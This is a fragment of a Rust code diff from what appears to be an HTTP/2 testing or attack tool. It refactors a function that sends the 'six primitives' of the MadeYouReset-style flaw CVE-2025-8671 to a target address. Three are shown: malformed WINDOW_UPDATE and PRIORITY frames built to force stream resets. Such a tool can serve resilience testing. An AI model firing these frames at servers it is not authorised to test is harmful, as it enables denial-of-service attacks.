@@ -76,7 +76,9 @@ pub(crate) fn rapid_reset_between(address: SocketAddr) -> Vec<Fate> {
 
 /// The six primitives of CVE-2025-8671, a connection for each.
 pub(crate) fn made_you_reset(address: SocketAddr) -> Vec<Fate> {
-    let primitives: [(bool, fn(u32) -> Vec<u8>); 6] = [
+    /// Bytes on a stream of this number.
+    type Primitive = fn(u32) -> Vec<u8>;
+    let primitives: [(bool, Primitive); 6] = [
         (false, |id| window_update(id, 0)),
         (false, |id| window_update(id, 0x7fff_ffff)),
         (false, |id| frame(PRIORITY, 0, id, &[0; 4])),
